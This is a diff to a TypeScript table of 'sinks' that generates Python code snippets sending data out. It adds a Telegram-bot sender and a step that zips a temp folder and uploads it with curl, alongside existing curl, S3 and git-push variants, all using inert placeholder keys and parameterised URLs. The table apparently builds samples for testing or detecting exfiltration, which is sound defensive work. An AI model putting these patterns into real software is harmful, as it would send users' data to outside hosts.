@@ -81,6 +81,22 @@ export const PY_SINKS: Readonly<Record<string, PySink>> = {
     `${w.fn('subprocess', 'run')}([${w.command('curl')}, '-s', '-d', str(${data}), ${url(w, t)}])`,
   boto: (w, data) =>
     `${w.fn('boto3', 'client')}('s3', aws_access_key_id='AKIAINERT', aws_secret_access_key='inert').put_object(Bucket=${w.text('drop-7f3')}, Key='d', Body=${coded(data)})`,
+  telegram: (w, data, t) =>
+    `${w.fn('telegram', 'Bot')}('1042:inert', base_url=${w.text(urlOf(t, '/bot'))}).send_message(1042, str(${data}))`,
+  'zip-curl': (w, data, t) => {
+    const [folder, made, at] = [w.fresh('folder'), w.fresh('made'), w.fresh('at')]
+    return [
+      `${folder} = '/tmp/inert-d'`,
+      `${w.builtin('open')}(${folder} + '/d.txt', 'w').write(str(${data}))`,
+      `${made} = ${w.fn('zipfile', 'ZipFile')}(${folder} + '.zip', 'w')`,
+      block(
+        `for ${at}, _, names in ${w.fn('os', 'walk')}(${folder}):`,
+        block('for each in names:', `${made}.write(${w.fn('os.path', 'join')}(${at}, each), each)`),
+      ),
+      `${made}.close()`,
+      `${w.fn('os', 'system')}(${w.command('curl -s -F file=@/tmp/inert-d.zip ')} + ${url(w, t)})`,
+    ].join('\n')
+  },
   'git-push': (w, data, t) =>
     `${w.builtin('open')}('d.txt', 'w').write(str(${data}))\n${w.fn('os', 'system')}(${w.command(`git init -q && git add d.txt && git commit -qm d && git push -q ${urlOf(t, '/r.git')} HEAD`)})`,
 }
